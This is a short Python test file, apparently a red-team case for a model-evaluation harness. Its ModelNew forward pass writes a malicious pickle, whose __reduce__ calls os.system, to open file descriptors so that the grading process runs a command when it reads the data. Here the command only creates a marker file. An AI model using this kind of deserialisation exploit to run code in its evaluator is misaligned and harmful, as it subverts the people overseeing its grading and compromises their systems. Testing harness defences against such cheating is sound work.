"""failed/protocol D5: sends a pickle that runs code where it is read."""

import os
import pickle
import struct

import torch


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/harness-cheat-unpickled",))


class ModelNew(torch.nn.Module):
    def forward(self, x):
        data = pickle.dumps(Bomb())
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, struct.pack("<II", len(data), 0) + data)
            except OSError:
                continue
        return torch.relu(x)
